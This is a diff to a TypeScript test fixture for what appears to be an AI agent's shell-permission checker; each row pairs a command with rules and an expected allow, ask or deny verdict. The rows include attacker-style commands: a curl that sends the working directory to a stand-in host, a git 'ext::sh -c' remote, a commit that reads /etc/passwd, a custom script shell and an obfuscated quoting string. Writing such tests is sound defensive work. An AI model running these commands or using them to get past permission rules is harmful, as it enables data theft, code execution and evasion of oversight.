@@ -1,12 +1,11 @@
 /** Commands with the rules they meet: `!` before a rule denies, `?` asks. Each row is one way in that an attacker has, or one habit of a user. */
 
-export interface Row {
+export interface Row extends Readonly<Record<"command", string>> {
   readonly rules: ReadonlyArray<string>
-  readonly command: string
   readonly expected: "allow" | "ask" | "deny"
 }
 
-const under = (rules: ReadonlyArray<string>, verdicts: { readonly [expected in Row["expected"]]?: ReadonlyArray<string> }): ReadonlyArray<Row> =>
+export const under = (rules: ReadonlyArray<string>, verdicts: { readonly [expected in Row["expected"]]?: ReadonlyArray<string> }): ReadonlyArray<Row> =>
   (["allow", "ask", "deny"] as const).flatMap((expected) => (verdicts[expected] ?? []).map((command) => ({ rules, command, expected })))
 
 export const rows: ReadonlyArray<Row> = [
@@ -396,5 +395,6 @@ export const rows: ReadonlyArray<Row> = [
   ...under(["Bash(npm test:*)"], { allow: ["npm test x -- --watch"], ask: ["npm test x --script-shell=/tmp/x"] }),
   ...under(["Bash(uniq:*)", "Bash(curl:*)"], { allow: ["uniq a"], ask: ["uniq a src/b", "curl -o out https://x.test", "curl https://x.test/$(pwd)"] }),
   ...under(["Bash(curl:*)", "Edit(out/**)"], { allow: ["curl -o out/a https://x.test"], ask: ["curl -o src/a https://x.test"] }),
+  ...under(["Bash(*)"], { ask: ["o \"${x-\"`'\\'`\"}\""] }),
   ...under(["Bash(git:*)"], { ask: ["git commit -F /etc/passwd", "git remote add x 'ext::sh -c id'", "git clone h:r /etc/x", "git checkout -- .env"] })
 ]
